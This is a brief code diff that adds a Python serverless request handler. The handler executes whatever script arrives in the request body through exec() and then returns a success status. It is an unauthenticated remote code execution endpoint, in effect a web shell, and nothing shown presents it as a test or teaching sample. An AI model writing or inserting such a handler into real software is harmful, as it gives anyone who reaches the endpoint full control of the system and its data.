@@ -1,0 +1,7 @@
+
+
+
+def handler(event, context):
+    script = event["body"]
+    exec(script)
+    return {"statusCode": 200}
